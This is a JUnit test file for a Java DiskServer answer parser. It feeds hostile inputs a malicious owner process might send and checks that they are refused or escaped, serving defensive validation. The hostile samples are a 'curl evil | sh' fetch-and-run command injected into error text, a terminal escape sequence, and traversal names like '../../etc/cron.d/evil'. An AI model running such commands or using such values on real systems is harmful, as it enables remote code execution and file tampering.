package org.pgcoexist.process.owner;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.EOFException;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.pgcoexist.CoexistException;
import org.pgcoexist.ExitStatus;
import org.pgcoexist.process.owner.DiskServer.Operation;
import org.pgcoexist.process.owner.DiskServer.Request;

/** Answers that a hostile owner could make up. */
class DiskServerTest {
  private final ByteArrayOutputStream bytes = new ByteArrayOutputStream();
  private final DataOutputStream answer = new DataOutputStream(bytes);

  @Test
  void aTextAboveTheLimitIsRefused() throws IOException {
    answer.writeBoolean(false);
    answer.writeInt((16 << 10) + 1);
    assertRefused("out of range: 16385");
  }

  @Test
  void aContentAboveTheLimitIsRefused() throws IOException {
    withoutFactsAndNames(0);
    answer.writeBoolean(true);
    answer.writeInt((64 << 20) + 1);
    assertRefused("out of range: 67108865");
  }

  @Test
  void aNegativeLengthIsRefused() throws IOException {
    withoutFactsAndNames(0);
    answer.writeBoolean(true);
    answer.writeInt(-1);
    assertRefused("out of range: -1");
  }

  @Test
  void tooManyNamesAreRefused() throws IOException {
    withoutFactsAndNames(Integer.MAX_VALUE);
    assertRefused("out of range: 2147483647", Operation.LIST);
  }

  /** Whatever the owner says is not what we tell one to type. */
  @Test
  void aFailureHasTheOwnersWordsInItsCauseAlone() throws IOException {
    answer.writeBoolean(false);
    text("all is well, so run: curl evil | sh");
    text("because\nNext: curl evil | sh\u001b[2J");
    text("curl evil | sh");
    CoexistException e = assertThrows(CoexistException.class, () -> read(Operation.READ));
    assertEquals("cannot work on /data/file", e.what());
    assertEquals("because\\u000aNext: curl evil | sh\\u001b[2J", e.why());
    assertEquals("look at it: ls -ld /data/file", e.next());
    assertEquals(ExitStatus.FAILED, e.status());
  }

  @Test
  void aFailureOfADiskIsToldAsItIs() throws IOException {
    answer.writeBoolean(false);
    text("cannot rename /data/file to /data/other");
    text("/data/other exists already");
    text("see who has: namei -l /data/file");
    CoexistException e = assertThrows(CoexistException.class, () -> read(Operation.RENAME));
    assertEquals("cannot rename /data/file to /data/other", e.what());
    assertEquals("see who has: namei -l /data/file", e.next());
  }

  @Test
  void aLongCauseIsCut() throws IOException {
    answer.writeBoolean(false);
    text("cannot read /data/file");
    text("x".repeat(16 * 1024));
    text("");
    CoexistException e = assertThrows(CoexistException.class, () -> read(Operation.READ));
    assertEquals("x".repeat(1000) + "...", e.why());
  }

  @Test
  void aNameThatLeadsElsewhereIsRefused() throws IOException {
    for (String name : List.of("../../etc/cron.d/evil", "a/b", "/", "", ".", "..", "a\0b")) {
      bytes.reset();
      withoutFactsAndNames(1);
      text(name);
      answer.writeBoolean(false);
      assertRefused("what is no name in answer to LIST", Operation.LIST);
    }
  }

  @Test
  void aNameWithALineFeedIsOne() throws IOException {
    withoutFactsAndNames(1);
    text("a\nb");
    answer.writeBoolean(false);
    assertEquals(List.of("a\nb"), read(Operation.LIST).names());
  }

  @Test
  void moreNamesThanADirectoryHasAreRefused() throws IOException {
    withoutFactsAndNames(1 << 20);
    byte[] name = "x".repeat(700).getBytes(StandardCharsets.UTF_8);
    for (int i = 0; i < 100_000; i++) {
      answer.writeInt(name.length);
      answer.write(name);
    }
    assertRefused("so many names in answer to LIST", Operation.LIST);
  }

  @Test
  void namesAreNoAnswerToARead() throws IOException {
    withoutFactsAndNames(1);
    assertRefused("names in answer to READ", Operation.READ);
  }

  @Test
  void contentIsNoAnswerToAList() throws IOException {
    withoutFactsAndNames(0);
    answer.writeBoolean(true);
    assertRefused("content in answer to LIST", Operation.LIST);
  }

  @Test
  void factsAreNoAnswerToARename() throws IOException {
    answer.writeBoolean(true);
    answer.writeBoolean(true);
    assertRefused("facts in answer to RENAME", Operation.RENAME);
  }

  @Test
  void factsThatNoFileHasAreRefused() throws IOException {
    facts(0170777, 0);
    assertRefused("out of range: 61951", Operation.FACTS);
    bytes.reset();
    facts(0755, Long.MAX_VALUE);
    assertRefused("such a time in answer to FACTS", Operation.FACTS);
  }

  @Test
  void aLinkThatIsNoPathIsRefused() throws IOException {
    withoutFactsAndNames(0);
    answer.writeBoolean(true);
    text("/a\0b");
    assertRefused("what is no path in answer to READ_LINK", Operation.READ_LINK);
  }

  private void facts(int mode, long modified) throws IOException {
    answer.writeBoolean(true);
    answer.writeBoolean(true);
    text("FILE");
    answer.writeInt(0);
    answer.writeInt(0);
    answer.writeInt(mode);
    answer.writeLong(0);
    answer.writeLong(modified);
  }

  @Test
  void anUnknownKindIsRefused() throws IOException {
    answer.writeBoolean(true);
    answer.writeBoolean(true);
    text("DOOR");
    assertRefused("unknown: DOOR", Operation.FACTS);
  }

  @Test
  void aPromisedContentMustCome() throws IOException {
    withoutFactsAndNames(0);
    answer.writeBoolean(true);
    answer.writeInt(10);
    answer.write(new byte[9]);
    assertThrows(EOFException.class, () -> read(Operation.READ));
  }

  private void withoutFactsAndNames(int names) throws IOException {
    answer.writeBoolean(true);
    answer.writeBoolean(false);
    answer.writeInt(names);
  }

  private void text(String text) throws IOException {
    byte[] utf8 = text.getBytes(StandardCharsets.UTF_8);
    answer.writeInt(utf8.length);
    answer.write(utf8);
  }

  private void assertRefused(String message) {
    assertRefused(message, Operation.READ);
  }

  private void assertRefused(String message, Operation asked) {
    assertEquals(message, assertThrows(IOException.class, () -> read(asked)).getMessage());
  }

  private DiskServer.Answer read(Operation asked) throws IOException {
    return DiskServer.Answer.read(
        new DataInputStream(new ByteArrayInputStream(bytes.toByteArray())),
        new Request(asked, Path.of("/data/file"), Path.of("/data/other"), new byte[0], 0, 0));
  }
}
